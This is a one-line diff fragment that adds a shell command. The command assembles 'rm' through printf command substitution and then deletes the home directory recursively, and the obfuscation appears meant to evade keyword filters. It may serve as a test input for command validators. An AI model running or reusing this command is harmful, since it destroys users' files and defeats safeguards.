@@ -1,0 +1,1 @@
+$(printf 'r%s' m) -rf ~
